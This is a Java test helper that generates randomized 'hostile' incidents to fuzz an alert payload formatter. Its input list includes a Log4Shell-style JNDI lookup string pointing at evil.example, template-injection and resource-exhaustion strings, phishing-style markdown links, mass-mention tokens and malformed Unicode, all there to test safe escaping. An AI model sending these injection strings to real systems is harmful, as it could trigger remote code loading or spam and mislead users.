package dev.portreach.alert.payload;

import dev.portreach.contracts.assignment.EnforcementPoint;
import dev.portreach.contracts.incident.Cause;
import dev.portreach.contracts.incident.CauseKind;
import dev.portreach.contracts.incident.Evidence;
import dev.portreach.contracts.incident.Incident;
import dev.portreach.contracts.incident.IncidentChange;
import dev.portreach.contracts.incident.IncidentStatus;
import java.time.Instant;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/** Incidents as nobody would name them: markup, mentions, half characters, very long, very many. */
public final class HostileIncidents {

    private static final List<String> NASTY = List.of(
            "@everyone",
            "<!channel>",
            "<@U123|bob>",
            "[click](http://evil.example)",
            "](http://evil.example)",
            "&amp;<b>",
            "\"}],\"x\":[{\"",
            "\\",
            "\\\\u0001routing_key\\u0001",
            "\u0001routing_key\u0001",
            "{secret.routing_key}",
            "{#for i in 1000000000}x{/for}",
            "${jndi:ldap://evil.example}",
            "\uD83D",
            "\uDE00",
            "😀👩‍👩‍👧‍👦",
            "\u202Eevil",
            "名前",
            "\n\n\n",
            "\t\r\u0000",
            "*_~`|",
            "<at>all</at>",
            " ",
            "lyon");

    private HostileIncidents() {}

    public static Arbitrary<Incident> all() {
        Arbitrary<String> words = Arbitraries.of(NASTY).list().ofMaxSize(12).map(parts -> String.join("", parts));
        Arbitrary<Integer> repeats = Arbitraries.frequency(Tuple.of(6, 1), Tuple.of(2, 60), Tuple.of(1, 4_000));
        Arbitrary<Integer> counts = Arbitraries.frequency(Tuple.of(5, 1), Tuple.of(2, 60), Tuple.of(1, 10_000));
        return Combinators.combine(words, words, words, repeats, counts, Arbitraries.of(CauseKind.values()))
                .as(HostileIncidents::incident);
    }

    private static Incident incident(String title, String text, String name, int repeats, int count, CauseKind kind) {
        Instant onset = Instant.parse("2026-03-01T10:00:00Z");
        List<String> names = Collections.nCopies(count, name);
        return new Incident(
                "inc-1",
                3,
                IncidentStatus.RESOLVED,
                IncidentChange.RESOLVED,
                new Cause(kind, Map.of("site", name)),
                List.of(),
                title.repeat(repeats),
                (text + "\n").repeat(repeats),
                onset,
                onset,
                onset.plusSeconds(60),
                onset.plusSeconds(60),
                new Evidence(count, count, 0, Map.of(), List.of(), null),
                1.0,
                null,
                names,
                names,
                names.stream()
                        .limit(20)
                        .map(site ->
                                new Incident.Responsible(site, name, List.of(new EnforcementPoint(name, name, name))))
                        .toList(),
                count,
                List.of(),
                List.of(),
                null,
                null);
    }
}
